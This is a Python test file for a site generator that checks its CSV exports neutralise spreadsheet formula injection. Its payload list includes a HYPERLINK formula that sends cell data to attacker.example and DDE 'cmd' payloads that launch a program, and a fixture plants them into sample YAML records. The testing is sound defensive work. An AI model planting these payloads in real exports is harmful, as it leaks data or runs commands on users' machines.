"""Every CSV the tool writes neutralises text a spreadsheet would run as a formula (OWASP: CSV
injection), through one helper; numbers stay numbers. Workbook cells are covered in ``test_sheet``."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from fixturelib import MINIMAL, zwpj

from generator.build.pages import write_pages
from generator.load.spreadsheets import FORMULA_LEADS, csv_cells, safe_text
from generator.pipeline import check, score_all
from generator.render.site import SiteItem

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_leading_text_gets_a_quote(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("value", [-2.5, 3, None, True, "正常文字", "A-1", "2024-05-01", ""])
def test_other_values_pass_unchanged(value: object) -> None:
    assert csv_cells([value]) == [value]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for c in row]


def _dangerous(cell: str) -> bool:
    if not cell.startswith(FORMULA_LEADS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # a negative number


@pytest.fixture()
def hostile_repo(tmp_path: Path) -> Path:
    root = Path(shutil.copytree(MINIMAL, tmp_path / "repo"))
    path = root / "evaluations/2024-mini/evaluation.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: 2024年度示例市政务服务平台服务质量评价", f"title: '{PAYLOADS[0]}'")
    text = text.replace("  name: 示例市数据资源局\n", "  name: '@SUM(1+1)*cmd'\n", 1)
    path.write_text(text, encoding="utf-8")
    registry = root / "organisations.yaml"  # the party's name must be registered (§4.1)
    text = registry.read_text(encoding="utf-8").replace(
        "    name: 示例市数据资源局\n", "    name: 示例市数据资源局\n    aliases: ['@SUM(1+1)*cmd']\n", 1
    )
    registry.write_text(text, encoding="utf-8")
    scores = root / "evaluations/2024-mini/scores/capability.yaml"
    text = scores.read_text(encoding="utf-8").replace(
        "  A4:\n    observation: false\n", "  A4:\n    not_applicable: \"+cmd|' /C calc'!A0\"\n"
    )
    scores.write_text(text, encoding="utf-8")
    return root


def test_the_open_data_csv_files_hold_no_live_formula(hostile_repo: Path, tmp_path: Path) -> None:
    checked = check(hostile_repo)
    assert checked.ok(), checked.diagnostics
    cards = score_all(checked)
    repo = checked.repo
    items = [SiteItem(e, repo.system_for(e.evaluation), cards[e.evaluation.id]) for e in repo.evaluations]
    docs = tmp_path / "docs"
    write_pages(hostile_repo, items, list(repo.systems.values()), docs, reports=False)
    written = sorted(docs.rglob("*.csv"))
    assert {p.name for p in written} >= {"evaluations.csv", "all-scores.csv", "2024-mini.csv"}
    for path in written:
        cells = _cells(path.read_text(encoding="utf-8"))
        assert [c for c in cells if _dangerous(c)] == [], path.name
    summary = _cells((docs / "data/evaluations.csv").read_text(encoding="utf-8"))
    assert "'" + PAYLOADS[0] in summary and "'@SUM(1+1)*cmd" in summary


def test_the_score_command_csv_holds_no_live_formula(hostile_repo: Path) -> None:
    run = zwpj(
        "score", str(hostile_repo / "evaluations/2024-mini"), "--format", "csv", "--root", str(hostile_repo)
    )
    assert run.exit_code == 0, run.stderr
    cells = _cells(run.stdout)
    assert [c for c in cells if _dangerous(c)] == []
    assert "'+cmd|' /C calc'!A0" in cells
